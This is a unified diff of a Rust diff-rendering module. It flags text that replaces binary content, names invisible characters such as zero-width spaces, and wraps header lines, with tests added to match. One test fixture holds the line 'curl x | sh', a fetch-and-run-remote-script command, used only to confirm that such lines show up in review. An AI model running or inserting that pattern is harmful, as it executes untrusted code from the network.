@@ -11,11 +11,12 @@
 use crate::html::escape;
 use crate::style::{Color, Line, Span, Style};
 use crate::terminal::expand_tabs;
+use crate::text::visible_exact;
 use crate::wrap::break_line;
 use similar::{ChangeTag, TextDiff};
 
 /// Larger than this (both sides together) is summarised, not diffed.
-const LARGEST_DIFFED: usize = 1 << 20;
+const LARGEST_DIFFED: usize = 4 << 20;
 /// Lines of context around each change.
 const CONTEXT: usize = 3;
 
@@ -47,6 +48,8 @@ pub struct Hunk {
 pub enum FileDiff {
     Text {
         created: bool,
+        /// The file held this many bytes of binary content, all replaced by the text.
+        replaced_binary: Option<usize>,
         added: usize,
         removed: usize,
         hunks: Vec<Hunk>,
@@ -69,7 +72,10 @@ impl FileDiff {
     /// The change from `old` (`None`: the file does not exist yet) to `new`.
     pub fn new(old: Option<&[u8]>, new: &[u8]) -> FileDiff {
         let old_bytes = old.map(<[u8]>::len);
-        if old.is_some_and(is_binary) || is_binary(new) {
+        // Text replacing binary content: every new line is shown (the old side cannot be).
+        let replaced_binary = old.filter(|old| is_binary(old)).map(<[u8]>::len);
+        let old = if replaced_binary.is_some() { None } else { old };
+        if is_binary(new) {
             return FileDiff::Binary {
                 old_bytes,
                 new_bytes: new.len(),
@@ -129,7 +135,8 @@ impl FileDiff {
             hunks.push(Hunk { header, lines });
         }
         FileDiff::Text {
-            created: old.is_none(),
+            created: old.is_none() && replaced_binary.is_none(),
+            replaced_binary,
             added,
             removed,
             hunks,
@@ -145,6 +152,14 @@ impl FileDiff {
                 ..
             } => format!(
                 "new file, {added} line{}",
+                if *added == 1 { "" } else { "s" }
+            ),
+            FileDiff::Text {
+                replaced_binary: Some(bytes),
+                added,
+                ..
+            } => format!(
+                "replaces {bytes} bytes of binary content with {added} line{}",
                 if *added == 1 { "" } else { "s" }
             ),
             FileDiff::Text { added, removed, .. } if added + removed == 0 => {
@@ -164,7 +179,10 @@ impl FileDiff {
 
     /// The diff as terminal lines at most `width` wide: the summary, then each hunk.
     pub fn lines(&self, width: usize) -> Vec<Line> {
-        let mut lines = vec![Line::from_text(&self.summary(), Style::fg(Color::Gray))];
+        let mut lines = break_line(
+            vec![Span::new(&self.summary(), Style::fg(Color::Gray))],
+            width,
+        );
         let FileDiff::Text { hunks, .. } = self else {
             return lines;
         };
@@ -176,9 +194,13 @@ impl FileDiff {
             .max()
             .unwrap_or(1);
         let digits = largest.to_string().len();
-        let gutter_width = 2 * digits + 4;
+        // "old new " before each line.
+        let gutter_width = 2 * digits + 2;
         for hunk in hunks {
-            lines.push(Line::from_text(&hunk.header, Style::fg(Color::Cyan)));
+            lines.extend(break_line(
+                vec![Span::new(&hunk.header, Style::fg(Color::Cyan))],
+                width,
+            ));
             for line in &hunk.lines {
                 let number = |n: Option<usize>| {
                     n.map(|n| format!("{n:>digits$}"))
@@ -193,7 +215,7 @@ impl FileDiff {
                     &format!("{} {} ", number(line.old_number), number(line.new_number)),
                     Style::fg(Color::Gray),
                 );
-                let text = format!("{sign} {}", expand_tabs(&line.text));
+                let text = format!("{sign} {}", visible_exact(&expand_tabs(&line.text)));
                 let room = width.saturating_sub(gutter_width).max(1);
                 let blank = Span::plain(&" ".repeat(gutter_width));
                 for (index, part) in break_line(vec![Span::new(&text, style)], room)
@@ -230,7 +252,7 @@ impl FileDiff {
                         number(line.old_number),
                         number(line.new_number)
                     ));
-                    escape(&line.text, &mut out);
+                    escape(&visible_exact(&line.text), &mut out);
                     out.push_str("</td></tr>\n");
                 }
             }
@@ -277,10 +299,47 @@ mod tests {
         assert_eq!(diff.summary(), "new file, 2 lines");
         let binary = FileDiff::new(Some(b"x"), b"\x00\x01");
         assert_eq!(binary.summary(), "binary content, 1 → 2 bytes");
+        let over_binary = FileDiff::new(Some(b"\x00\x01\x02"), b"#!/bin/sh\ncurl x | sh\n");
+        assert_eq!(
+            over_binary.summary(),
+            "replaces 3 bytes of binary content with 2 lines"
+        );
+        let shown: Vec<String> = over_binary.lines(80).iter().map(Line::plain).collect();
+        assert!(
+            shown.iter().any(|line| line.ends_with("+ curl x | sh")),
+            "{shown:?}"
+        );
         let huge = vec![b'a'; LARGEST_DIFFED + 1];
         assert_eq!(
             FileDiff::new(None, &huge).summary(),
             format!("too large to show, {} bytes, new file", LARGEST_DIFFED + 1)
+        );
+    }
+
+    #[test]
+    fn a_change_no_one_could_see_is_named() {
+        let diff = FileDiff::new(Some(b"foo\n"), "foo\u{200b}\n".as_bytes());
+        let shown: Vec<String> = diff.lines(80).iter().map(Line::plain).collect();
+        assert!(
+            shown.contains(&"  1 + foo⟨U+200B⟩".to_string()),
+            "{shown:?}"
+        );
+        assert!(diff.html().contains("foo⟨U+200B⟩"));
+    }
+
+    #[test]
+    fn continuation_rows_line_up_under_the_text() {
+        let diff = FileDiff::new(None, b"abcdefghijklmnopqrstuvwxyz\n");
+        let shown: Vec<String> = diff.lines(16).iter().map(Line::plain).collect();
+        assert_eq!(
+            shown,
+            [
+                "new file, 1 line",
+                "@@ -0,0 +1,1 @@",
+                "  1 + abcdefghij",
+                "    klmnopqrstuv",
+                "    wxyz"
+            ]
         );
     }
 
